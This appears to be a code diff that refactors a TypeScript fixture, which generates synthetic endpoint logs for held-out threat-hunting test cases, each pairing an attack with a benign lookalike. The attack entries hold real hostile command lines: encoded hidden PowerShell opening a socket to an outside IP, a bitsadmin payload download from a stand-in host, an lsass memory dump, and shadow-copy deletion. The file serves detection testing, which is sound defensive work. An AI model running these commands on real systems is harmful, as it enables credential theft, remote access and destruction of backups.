@@ -1,142 +1,85 @@
-import type { HeldOutCases } from '../held-out-case.ts';
-import { connection, deviceEvent, fileEvent, processStart } from '../held-out-rows.ts';
+import type { Entity, HeldOutCases } from '../held-out-case.ts';
+import { connection, deviceEvent, fileEvent, type HeldOutLogs, processStart } from '../held-out-rows.ts';
+import type { World } from '../held-out-world.ts';
 
 const SECOND = 1000;
 const MINUTE = 60 * SECOND;
 const EXCEL = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE';
+const CMD = 'C:\\Windows\\System32\\cmd.exe';
 const POWERSHELL = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
 /** PowerShell's -EncodedCommand takes UTF-16LE text in Base64. */
 const encoded = (script: string) => Buffer.from(script, 'utf16le').toString('base64');
 /** The held-out known-bad file: its hash is passed to the hunt as a parameter, not taken from the template. */
 const HELD_OUT_MALWARE_SHA256 = 'e3a1c2b7d90f44a8b6c1d2e3f4a5b6c7d8e9f0a1b2c3d4e5f6a7b8c9d0e1f2a3';
 
+type Child = { readonly image: string; readonly commandLine: string; readonly sha256?: string };
+type Server = keyof World['servers'];
+
+/** Someone's laptop starts `child` from `parentImage` `hoursAgo` before the end; the laptop names the activity. */
+const onALaptop =
+  (hoursAgo: number, parentImage: string, child: Child) =>
+  (logs: HeldOutLogs): Entity => {
+    const person = logs.world.nextPerson();
+    processStart(logs, logs.world.ago(hoursAgo), person.laptop, { image: parentImage, user: person.sam }, child);
+    return { host: person.laptop.fqdn };
+  };
+
+/** An admin's shell on a server starts `child`; the server names the activity. */
+const onServer =
+  (server: Server, hoursAgo: number, user: string, child: Child) =>
+  (logs: HeldOutLogs): Entity => {
+    const host = logs.world.servers[server];
+    processStart(logs, logs.world.ago(hoursAgo), host, { image: CMD, user }, child);
+    return { host: host.fqdn };
+  };
+
 export const ENDPOINT_CASES: HeldOutCases = {
   'office-spawns-shell': {
-    attack: (logs) => {
-      const victim = logs.world.nextPerson();
-      processStart(
-        logs,
-        logs.world.ago(21),
-        victim.laptop,
-        { image: EXCEL, user: victim.sam },
-        {
-          image: 'C:\\Windows\\System32\\mshta.exe',
-          commandLine: 'mshta.exe vbscript:Execute("CreateObject(""WScript.Shell"").Run ""calc""")',
-          sha256: 'aa11',
-        },
-      );
-      return { host: victim.laptop.fqdn };
-    },
+    attack: onALaptop(21, EXCEL, {
+      image: 'C:\\Windows\\System32\\mshta.exe',
+      commandLine: 'mshta.exe vbscript:Execute("CreateObject(""WScript.Shell"").Run ""calc""")',
+      sha256: 'aa11',
+    }),
     // Excel opening a hyperlink in a cell: it starts the browser.
-    lookalike: (logs) => {
-      const person = logs.world.nextPerson();
-      processStart(
-        logs,
-        logs.world.ago(9),
-        person.laptop,
-        { image: EXCEL, user: person.sam },
-        {
-          image: 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe',
-          commandLine: 'msedge.exe https://tracking.shipper.example/AB123',
-        },
-      );
-      return { host: person.laptop.fqdn };
-    },
+    lookalike: onALaptop(9, EXCEL, {
+      image: 'C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe',
+      commandLine: 'msedge.exe https://tracking.shipper.example/AB123',
+    }),
   },
   'encoded-powershell': {
-    attack: (logs) => {
-      const victim = logs.world.nextPerson();
-      processStart(
-        logs,
-        logs.world.ago(17),
-        victim.laptop,
-        { image: 'C:\\Windows\\System32\\wscript.exe', user: victim.sam },
-        {
-          image: POWERSHELL,
-          commandLine: `PowerShell.exe -NoP -sta -NonI -W Hidden -Enc ${encoded('$c=New-Object Net.Sockets.TCPClient("45.141.84.9",443);$s=$c.GetStream()')}`,
-        },
-      );
-      return { host: victim.laptop.fqdn };
-    },
+    attack: onALaptop(17, 'C:\\Windows\\System32\\wscript.exe', {
+      image: POWERSHELL,
+      commandLine: `PowerShell.exe -NoP -sta -NonI -W Hidden -Enc ${encoded('$c=New-Object Net.Sockets.TCPClient("45.141.84.9",443);$s=$c.GetStream()')}`,
+    }),
     // A script run with a bypassed execution policy: a switch that starts with -e, nothing encoded.
-    lookalike: (logs) => {
-      const person = logs.world.nextPerson();
-      processStart(
-        logs,
-        logs.world.ago(31),
-        person.laptop,
-        { image: 'C:\\Windows\\System32\\cmd.exe', user: person.sam },
-        {
-          image: POWERSHELL,
-          commandLine:
-            'powershell.exe -ExecutionPolicy Bypass -File \\\\bwfs02\\netlogon\\map-drives-and-printers-for-the-logistics-floor.ps1',
-        },
-      );
-      return { host: person.laptop.fqdn };
-    },
+    lookalike: onALaptop(31, CMD, {
+      image: POWERSHELL,
+      commandLine:
+        'powershell.exe -ExecutionPolicy Bypass -File \\\\bwfs02\\netlogon\\map-drives-and-printers-for-the-logistics-floor.ps1',
+    }),
   },
   'lolbin-download': {
-    attack: (logs) => {
-      const victim = logs.world.nextPerson();
-      processStart(
-        logs,
-        logs.world.ago(13),
-        victim.laptop,
-        { image: 'C:\\Windows\\System32\\cmd.exe', user: victim.sam },
-        {
-          image: 'C:\\Windows\\System32\\bitsadmin.exe',
-          commandLine:
-            'bitsadmin /transfer job1 /download /priority high https://paste.dropzone.example/raw/x9 C:\\Users\\Public\\x9.dll',
-        },
-      );
-      return { host: victim.laptop.fqdn };
-    },
+    attack: onALaptop(13, CMD, {
+      image: 'C:\\Windows\\System32\\bitsadmin.exe',
+      commandLine:
+        'bitsadmin /transfer job1 /download /priority high https://paste.dropzone.example/raw/x9 C:\\Users\\Public\\x9.dll',
+    }),
     // certutil hashing an installer: the same program, no download.
-    lookalike: (logs) => {
-      const person = logs.world.nextPerson();
-      processStart(
-        logs,
-        logs.world.ago(35),
-        person.laptop,
-        { image: 'C:\\Windows\\System32\\cmd.exe', user: person.sam },
-        {
-          image: 'C:\\Windows\\System32\\certutil.exe',
-          commandLine: 'certutil -hashfile C:\\Users\\Public\\Downloads\\TeamsSetup.exe SHA256',
-        },
-      );
-      return { host: person.laptop.fqdn };
-    },
+    lookalike: onALaptop(35, CMD, {
+      image: 'C:\\Windows\\System32\\certutil.exe',
+      commandLine: 'certutil -hashfile C:\\Users\\Public\\Downloads\\TeamsSetup.exe SHA256',
+    }),
   },
   'lsass-dump': {
-    attack: (logs) => {
-      const { dc } = logs.world.servers;
-      processStart(
-        logs,
-        logs.world.ago(7),
-        dc,
-        { image: 'C:\\Windows\\System32\\cmd.exe', user: 'adm-x' },
-        {
-          image: 'C:\\Windows\\Temp\\pd.exe',
-          commandLine: 'pd.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\l.dmp',
-        },
-      );
-      return { host: dc.fqdn };
-    },
+    attack: onServer('dc', 7, 'adm-x', {
+      image: 'C:\\Windows\\Temp\\pd.exe',
+      commandLine: 'pd.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\l.dmp',
+    }),
     // An admin dumps the monitoring agent that hangs on the jump host, for the vendor.
-    lookalike: (logs) => {
-      const { jump } = logs.world.servers;
-      processStart(
-        logs,
-        logs.world.ago(40),
-        jump,
-        { image: 'C:\\Windows\\System32\\cmd.exe', user: 'dba-on-call' },
-        {
-          image: 'C:\\Tools\\procdump.exe',
-          commandLine: 'procdump.exe -accepteula -ma MonitoringHost.exe D:\\dumps\\monitoringhost.dmp',
-        },
-      );
-      return { host: jump.fqdn };
-    },
+    lookalike: onServer('jump', 40, 'dba-on-call', {
+      image: 'C:\\Tools\\procdump.exe',
+      commandLine: 'procdump.exe -accepteula -ma MonitoringHost.exe D:\\dumps\\monitoringhost.dmp',
+    }),
   },
   'lsass-access': {
     attack: (logs) => {
@@ -169,35 +112,15 @@ export const ENDPOINT_CASES: HeldOutCases = {
     },
   },
   'shadow-copy-delete': {
-    attack: (logs) => {
-      const { files } = logs.world.servers;
-      processStart(
-        logs,
-        logs.world.ago(1),
-        files,
-        { image: 'C:\\Windows\\System32\\cmd.exe', user: 'adm-x' },
-        {
-          image: 'C:\\Windows\\System32\\wbem\\WMIC.exe',
-          commandLine: 'wmic shadowcopy where "ID!=\'\'" delete /nointeractive',
-        },
-      );
-      return { host: files.fqdn };
-    },
+    attack: onServer('files', 1, 'adm-x', {
+      image: 'C:\\Windows\\System32\\wbem\\WMIC.exe',
+      commandLine: 'wmic shadowcopy where "ID!=\'\'" delete /nointeractive',
+    }),
     // Someone lists the shadow copies while restoring a file.
-    lookalike: (logs) => {
-      const { backup } = logs.world.servers;
-      processStart(
-        logs,
-        logs.world.ago(45),
-        backup,
-        { image: 'C:\\Windows\\System32\\cmd.exe', user: 'adm-y' },
-        {
-          image: 'C:\\Windows\\System32\\vssadmin.exe',
-          commandLine: 'vssadmin list shadows /for=E:',
-        },
-      );
-      return { host: backup.fqdn };
-    },
+    lookalike: onServer('backup', 45, 'adm-y', {
+      image: 'C:\\Windows\\System32\\vssadmin.exe',
+      commandLine: 'vssadmin list shadows /for=E:',
+    }),
   },
   'malware-hash': {
     values: { hashes: HELD_OUT_MALWARE_SHA256.toUpperCase() },
